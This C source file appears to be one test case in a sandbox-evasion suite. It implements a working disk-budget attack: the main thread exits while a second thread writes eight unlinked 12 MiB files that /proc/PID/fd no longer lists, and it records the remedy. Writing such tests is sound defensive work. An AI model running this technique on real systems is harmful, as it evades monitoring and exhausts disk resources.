// SPDX-License-Identifier: MIT
// build: -pthread
/*
 * Goal:  more bytes on disk than the budget.
 * Means: files without a name, open in a process whose first thread has ended. From then on /proc/PID shows
 *        no descriptors and no maps of it: its other threads have them. Who looks there which files a run
 *        has open, finds none.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <time.h>
#include <unistd.h>

#define FILES 8
#define BYTES (12UL << 20) /* of each: below a limit of 16 MiB */

static void *fill(void *arg)
{
	const struct timespec moment = { .tv_nsec = 100000000 };
	static char block[1 << 20];

	(void)arg;
	nanosleep(&moment, NULL); /* for the first thread to end */
	for (int i = 0; i < FILES; i++) {
		int fd = open("leaderless", O_RDWR | O_CREAT | O_EXCL, 0600);

		if (fd < 0)
			_exit(denied("open"));
		unlink("leaderless");
		for (size_t n = 0; n < BYTES; n += sizeof(block))
			if (write(fd, block, sizeof(block)) < 0)
				_exit(denied("write"));
	}
	_exit(hold());
}

static enum claim run(const struct brief *b)
{
	pthread_t second;

	attempting(b);
	errno = pthread_create(&second, NULL, fill, NULL);
	if (errno)
		return denied("pthread_create");
	pthread_exit(NULL);
}

const struct attack attack = {
	.effect = "more bytes on disk than the budget",
	.means = "unlinked files of a process whose first thread has ended: /proc shows none of them",
	.oracle = "usage:disk",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "ask a thread that lives; a quota of the file system",
	.refs = (const char *const[]){ "proc_pid_fd(5)", "pthread_exit(3)", NULL },
	.run = run,
};
